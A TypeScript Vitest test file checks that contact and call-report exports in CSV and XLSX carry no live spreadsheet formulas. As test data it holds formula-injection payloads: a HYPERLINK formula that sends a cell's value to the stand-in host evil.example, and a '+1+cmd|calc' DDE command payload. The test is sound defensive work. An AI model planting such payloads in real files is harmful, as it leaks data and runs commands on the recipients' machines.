/** Files that the operator saves hold what strangers wrote: no cell of them is ever a formula. */
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, it, onTestFinished } from 'vitest'
import type { ContactGroup } from '@shared/contract/contacts'
import type { ExportFormat } from '@shared/contract/export'
import { createAutocall } from '../../../src-main/autocall/autocall'
import { createContacts } from '../../../src-main/contacts/contacts'
import { readXlsxRows } from '../../../src-main/imports/xlsx-rows'
import { autocallHandlers } from '../../../src-main/ipc/autocall'
import { contactHandlers } from '../../../src-main/ipc/contacts'
import { openDatabase } from '../../../src-main/storage/database'
import { twinClientAt } from '../changes/twin-place'
import { buildWorker } from '../imports/built-worker'
import { temporaryFolder } from '../storage/temporary-folder'

const formula = '=HYPERLINK("http://evil.example/?"&A1,"Anna")'
const commands = [formula, '+1+cmd|calc', '-2+3', '@SUM(A1:A9)']

/** Cells of a CSV file as a spreadsheet would take them. */
const isFormula = (cell: string): boolean => /^"?[=+\-@]/.test(cell)

async function cellsOf(path: string, format: ExportFormat): Promise<string[]> {
  if (format === 'csv')
    return readFileSync(path, 'utf8')
      .replace('\uFEFF', '')
      .split(/\r\n|,/)
  const cells: string[] = []
  for await (const rows of readXlsxRows(path, { sheet: 0, onProgress: () => undefined }))
    cells.push(...rows.flatMap((row) => row.cells))
  return cells
}

async function openContacts(folder: string) {
  const opened = openDatabase({ folder, now: Date.now })
  const path = join(folder, 'people.csv')
  const quoted = commands.map(
    (name, index) => `8916123450${index};"${name.replaceAll('"', '""')}";"${name.replaceAll('"', '""')}"`,
  )
  writeFileSync(path, ['Телефон;Имя;ID', ...quoted, '=1+1;x;y'].join('\r\n'))
  const contacts = createContacts({
    database: opened.database,
    workerPath: await buildWorker(folder, 'contacts/contact-worker'),
    planEntries: () => Promise.reject(new Error('nothing is planned here')),
    salt: '0123456789abcdef0123456789abcdef',
    chooseTable: async () => path,
    emit: () => undefined,
    now: Date.now,
  })
  onTestFinished(() => {
    contacts.close()
    opened.close()
  })
  const file = await contacts.open()
  if (!file) throw new Error('no file')
  const rule = { mapping: file.mapping, homeCountry: 'RU', withForeign: false, withPremium: false, recentDays: 0 }
  const list = await contacts.prepare({
    importId: file.importId,
    accountId: 'account-1',
    jobId: 'job',
    jobName: 'Опрос',
    reading: file.reading,
    rule,
  })
  return { contacts, list }
}

it('contacts whose names are formulas come out as texts, in CSV and XLSX', async () => {
  const folder = temporaryFolder()
  const { contacts, list } = await openContacts(folder)
  for (const format of ['csv', 'xlsx'] as const) {
    const saved = join(folder, `saved.${format}`)
    const handlers = contactHandlers({ contacts, choosePlace: async () => saved })
    const save = (group: ContactGroup) => handlers['contacts.save']({ listId: list.id, group, format, locale: 'en' })
    await save('new')
    const cells = await cellsOf(saved, format)
    expect(cells.join(' ')).toContain('HYPERLINK')
    if (format === 'csv') expect(cells.filter((cell) => isFormula(cell))).toEqual([])
    else expect(commands.every((command) => cells.includes(command))).toBe(true)
    // What could not be read as a number is written as it stood in the file.
    await save('invalid')
    expect(await cellsOf(saved, format)).toContain(format === 'csv' ? "'=1+1" : '=1+1')
  }
})

it('a report in which the provider sends formulas holds none', async () => {
  const folder = temporaryFolder()
  const call = {
    id: '1',
    phone: '=1+1',
    jobId: 'job',
    jobName: 'Опрос',
    status: '@SUM(A1)',
    seconds: 3,
    responder: formula,
    startedAt: Date.UTC(2026, 0, 1),
    price: 1.5,
  }
  const nowhere = twinClientAt({ baseUrl: 'http://127.0.0.1:1', email: '', password: '' })
  const fakeClient = {
    ...nowhere,
    readJob: async () => ({
      id: 'job',
      name: 'Опрос',
      status: 'FINISHED',
      contactCount: 1,
      callCount: 1,
      rate: null,
      startMoment: null,
      createdAt: Date.UTC(2026, 0, 1),
      updatedAt: null,
      settings: null,
    }),
    listCalls: async ({ offset }: { offset: number }) => ({ calls: offset === 0 ? [call] : [], total: 1 }),
  }
  const autocall = createAutocall({ twin: async () => fakeClient, emit: () => undefined, now: Date.now })
  for (const format of ['csv', 'xlsx'] as const) {
    const saved = join(folder, `calls.${format}`)
    const handlers = autocallHandlers({
      autocall,
      changes: { stepsOf: async () => [] },
      choosePlace: async () => saved,
    })
    await handlers['autocall.saveCalls']({ accountId: 'a', jobId: 'job', format, locale: 'en' })
    const cells = await cellsOf(saved, format)
    expect(cells).toContain(format === 'csv' ? "'=1+1" : '=1+1')
    if (format === 'csv') expect(cells.filter((cell) => isFormula(cell))).toEqual([])
  }
})
